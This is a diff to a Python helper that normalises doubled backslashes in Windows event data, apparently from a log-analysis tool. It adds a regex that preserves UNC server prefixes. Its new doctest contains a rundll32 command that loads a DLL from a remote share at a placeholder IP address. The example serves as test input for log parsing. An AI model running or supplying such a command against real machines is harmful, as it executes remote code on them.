@@ -181,16 +181,21 @@ _RUNS = re.compile(r"\\+")
 #: Two backslashes where one stands by itself: not before the name of a server, which has two.
 _DOUBLED = re.compile(r"[^\s\\\"'=]\\\\|\\{4}")
 
+#: Who types a command may double what stands behind a server's name as well, and Windows takes it: the name keeps its two where nothing shows that these were doubled.
+_PAIR = re.compile(r"(?i)((?<![^\s\"'=,(])\\\\(?=[\w.-]{1,80}(?:@\w{1,10}){0,2}\\\\)(?!(?:device|systemroot|registry)\\))|\\\\")
+
 
 def halved(value: Any) -> Any:
     r"""A text of which a writer doubled every backslash as it was; any other as it is.
 
     >>> print(halved(r"C:\\Windows\\notes.txt"), halved(r"\\fs1\share\notes.txt"), halved(r"net view \\fs1"))
     C:\Windows\notes.txt \\fs1\share\notes.txt net view \\fs1
+    >>> print(halved(r"rundll32 \\192.0.2.9\\a.dll,x"))
+    rundll32 \\192.0.2.9\a.dll,x
     """
     if not isinstance(value, str) or "\\\\" not in value or _DOUBLED.search(value) is None or any(len(run) % 2 for run in _RUNS.findall(value)):
         return value
-    return value.replace("\\\\", "\\")
+    return _PAIR.sub(lambda pair: pair[1] or "\\", value)
 
 
 def _of_beat(record: Mapping[str, Any]) -> Optional[WindowsEvent]:
